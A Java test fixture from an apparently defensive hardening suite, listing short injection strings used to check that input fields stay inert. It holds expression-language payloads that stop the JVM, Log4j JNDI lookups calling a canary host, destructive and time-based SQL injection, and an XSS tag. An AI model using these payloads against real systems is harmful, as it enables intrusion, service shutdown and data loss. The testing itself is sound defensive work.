package io.guardianpartner.acceptance.hardening;

import java.util.List;

/** Texts that one or another library would take for more than text. Each fits into the shortest field, of 50 characters. */
final class Injections {

    private Injections() {}

    static List<String> calling(Canary canary) {
        return List.of(
            // Camel's Simple and its property placeholders
            "${7*7} ${exchangeId} ${camelContext.stop}", "$simple{exchangeId} {{sys:user.home}}",
            "${bean:outbox?method=toString}",
            // Spring's and Jakarta's expression languages, OGNL
            "#{T(java.lang.Runtime).getRuntime().exit(1)}", "${T(java.lang.System).exit(1)}",
            "%{#a=1,@java.lang.System@exit(1)}", "#{''.getClass().forName('x')}",
            // Log4j's lookups
            "${jndi:ldap://" + canary.address() + "/a}", "${${lower:j}ndi:dns://" + canary.address() + "}",
            // SQL
            "'; drop table product; --", "' or '1'='1", "'||pg_sleep(20)||'", "\\'; select 1; --", "%_%' escape '",
            // DynamoDB, JSON, HTML
            ":id = :id OR attribute_exists(#id)", "\"}, \"status\": \"AWAITING\", \"x\": {\"",
            "<script>alert(1)</script>");
    }
}
